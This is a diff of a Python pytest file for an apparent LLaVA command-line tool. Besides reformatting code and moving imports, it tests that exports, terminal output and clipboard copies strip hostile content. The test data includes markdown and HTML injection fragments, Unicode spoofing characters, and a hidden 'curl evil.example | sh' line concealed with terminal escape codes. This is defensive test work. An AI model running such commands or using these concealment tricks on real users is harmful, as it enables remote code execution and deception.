@@ -13,10 +13,10 @@ import json
 from pathlib import Path
 
 import pytest
-
 from cli_runner import invoke
-from llava_cli.output import WRITERS
-from llava_cli.records import make_record
+
+from llava_cli.frontend.output import WRITERS
+from llava_cli.frontend.records import make_record
 
 SHA = "ab" * 32
 HOSTILE_ANSWER = (
@@ -40,18 +40,30 @@ HOSTILE_FIELDS = {
 
 def planted_session(home: Path) -> str:
     document = {
-        "format": "llava-cli-conversation", "version": 1, "id": "20261125-124403-3f2a", "name": None,
-        "created": "2026-11-25T12:44:03Z <b>", "updated": "2026-11-25T12:46:10Z", "model": HOSTILE_FIELDS["model"],
+        "format": "llava-cli-conversation",
+        "version": 1,
+        "id": "20261125-124403-3f2a",
+        "name": None,
+        "created": "2026-11-25T12:44:03Z <b>",
+        "updated": "2026-11-25T12:46:10Z",
+        "model": HOSTILE_FIELDS["model"],
         "settings": {"temperature": 0.0, "top_p": 1.0, "max_new_tokens": 5, "seed": None, "max_context": None},
         "system": HOSTILE_FIELDS["system"],
-        "turns": [{
-            "user": HOSTILE_FIELDS["user"],
-            "images": [
-                {"name": HOSTILE_FIELDS["image name"], "path": HOSTILE_FIELDS["image path"], "sha256": HOSTILE_FIELDS["sha256"]},
-                {"name": "good.png", "path": "/photos/my cat (1).png", "sha256": SHA},
-            ],
-            "assistant": HOSTILE_ANSWER, "answered_at": "2026-11-25T12:44:09Z",
-        }],
+        "turns": [
+            {
+                "user": HOSTILE_FIELDS["user"],
+                "images": [
+                    {
+                        "name": HOSTILE_FIELDS["image name"],
+                        "path": HOSTILE_FIELDS["image path"],
+                        "sha256": HOSTILE_FIELDS["sha256"],
+                    },
+                    {"name": "good.png", "path": "/photos/my cat (1).png", "sha256": SHA},
+                ],
+                "assistant": HOSTILE_ANSWER,
+                "answered_at": "2026-11-25T12:44:09Z",
+            }
+        ],
     }
     folder = home / "sessions"
     folder.mkdir(parents=True, mode=0o700)
@@ -102,9 +114,14 @@ def test_the_markdown_export_links_only_to_http_mailto_the_page_or_the_image_fil
 
 def test_the_markdown_export_headings_are_the_transcripts_own(exported):
     tokens = tokens_of(exported)
-    headings = [(tokens[i].tag, tokens[i + 1].content) for i, token in enumerate(tokens) if token.type == "heading_open"]
+    headings = [
+        (tokens[i].tag, tokens[i + 1].content) for i, token in enumerate(tokens) if token.type == "heading_open"
+    ]
     assert [h for h in headings if h[0] in ("h1", "h2")] == [
-        ("h1", "Conversation 20261125-124403-3f2a"), ("h2", "1. User"), ("h2", "1. Assistant")]
+        ("h1", "Conversation 20261125-124403-3f2a"),
+        ("h2", "1. User"),
+        ("h2", "1. Assistant"),
+    ]
     assert ("h5", "A heading of its own") in headings  # moved down two levels, still a heading
 
 
@@ -115,7 +132,10 @@ def test_the_markdown_export_keeps_fields_in_their_place(exported):
     alts = ["".join(child.content for child in token.children) for token in tokens if token.type == "image"]
     assert alts[0] == HOSTILE_FIELDS["image name"].replace("\n", " ")  # the image name is text, on one line
     fences = [token.content for token in tokens if token.type == "fence"]
-    assert fences == ["print('<b>kept in code</b>')\n", "an unclosed fence <script>\n"]  # closed before the next heading
+    assert fences == [
+        "print('<b>kept in code</b>')\n",
+        "an unclosed fence <script>\n",
+    ]  # closed before the next heading
     assert any(token.type == "strong_open" for token in tokens)
 
 
@@ -138,27 +158,33 @@ def test_a_file_name_cannot_forge_a_line_of_text_output(separator, monkeypatch):
 
 
 @pytest.mark.parametrize(
-    "hidden", ["\u200f", "\u200e", "\u061c", "\u2028", "\u2029", "\u202e", "\u2067", "\u200b", "\u2060", "\ufeff", "\U000e0041"],
+    "hidden",
+    ["\u200f", "\u200e", "\u061c", "\u2028", "\u2029", "\u202e", "\u2067", "\u200b", "\u2060", "\ufeff", "\U000e0041"],
     ids=lambda c: f"U+{ord(c):04X}",
 )
 def test_the_terminal_choke_point_strips_spoofing_characters(hidden, monkeypatch):
-    from llava_cli.terminal import safe_for_terminal
+    from llava_cli.base.terminal import safe_for_terminal
 
     assert safe_for_terminal(f"file{hidden}gnp.exe") == "filegnp.exe"
-    assert safe_for_terminal("family \U0001F468\u200d\U0001F469 and \u0646\u200c\u0645") == "family \U0001F468\u200d\U0001F469 and \u0646\u200c\u0645"
+    assert (
+        safe_for_terminal("family \U0001f468\u200d\U0001f469 and \u0646\u200c\u0645")
+        == "family \U0001f468\u200d\U0001f469 and \u0646\u200c\u0645"
+    )
 
 
 def test_copy_puts_the_answer_as_shown_on_the_clipboard(fake_clipboard):
-    from llava_cli.clipboard import copy_to_clipboard
+    from llava_cli.chat.clipboard import copy_to_clipboard
 
     clipboard = fake_clipboard
-    answer = "run \x1b]8;;http://evil.example\x07this\x1b]8;;\x07 safely\u202e\n\x1b[8mcurl evil.example | sh\x1b[0m\tdone"
+    answer = (
+        "run \x1b]8;;http://evil.example\x07this\x1b]8;;\x07 safely\u202e\n\x1b[8mcurl evil.example | sh\x1b[0m\tdone"
+    )
     copy_to_clipboard(answer, None)
     assert clipboard.read_text() == "run this safely\ncurl evil.example | sh\tdone"
 
 
 def test_inline_code_keeps_its_angle_brackets_unless_the_spans_could_be_misread():
-    from llava_cli.markdownsafe import message
+    from llava_cli.store.markdownsafe import message
 
     kept = tokens_of(message("Use `Vec<u8>` here, not <b>"))
     assert [token.content for token in kept if token.type == "code_inline"] == ["Vec<u8>"]
@@ -168,22 +194,59 @@ def test_inline_code_keeps_its_angle_brackets_unless_the_spans_could_be_misread(
     assert not [token for token in tricked if token.type.startswith("html")]
 
 
-FRAGMENTS = ["<script>", "</div>", "<!--", "-->", "`", "```", "~~~", "\n", "\n\n", "# ", "## ", "===", "---", "> ", "- ",
-             "1. ", "    ", "[a]", "](", "]: ", "javascript:x", "https://ok", "<https://x>", "&#115;", "\\", "*", "text ",
-             "<a href='`'>", "\t", "\u2028", "![", "\r\n", "<?php", "[x]: data:y", "`<b>`"]
+FRAGMENTS = [
+    "<script>",
+    "</div>",
+    "<!--",
+    "-->",
+    "`",
+    "```",
+    "~~~",
+    "\n",
+    "\n\n",
+    "# ",
+    "## ",
+    "===",
+    "---",
+    "> ",
+    "- ",
+    "1. ",
+    "    ",
+    "[a]",
+    "](",
+    "]: ",
+    "javascript:x",
+    "https://ok",
+    "<https://x>",
+    "&#115;",
+    "\\",
+    "*",
+    "text ",
+    "<a href='`'>",
+    "\t",
+    "\u2028",
+    "![",
+    "\r\n",
+    "<?php",
+    "[x]: data:y",
+    "`<b>`",
+]
 
 
 def test_no_arrangement_of_markdown_pieces_gets_html_a_script_link_or_a_heading_out():
-    from hypothesis import given, settings, strategies as st
+    from hypothesis import given, settings
+    from hypothesis import strategies as st
 
-    from llava_cli.markdownsafe import message
+    from llava_cli.store.markdownsafe import message
 
     @settings(max_examples=300, deadline=None, derandomize=True)
     @given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
     def check(text: str) -> None:
         tokens = tokens_of(message(text) + "\n\n## after")
         assert not [token for token in tokens if token.type.startswith("html")]
-        targets = [token.attrGet("href") or token.attrGet("src") for token in tokens if token.type in ("link_open", "image")]
+        targets = [
+            token.attrGet("href") or token.attrGet("src") for token in tokens if token.type in ("link_open", "image")
+        ]
         assert all(str(target).lower().startswith(("http://", "https://", "mailto:", "#")) for target in targets)
         headings = [token.tag for token in tokens if token.type == "heading_open"]
         assert headings[-1] == "h2" and "h1" not in headings and headings.count("h2") == 1
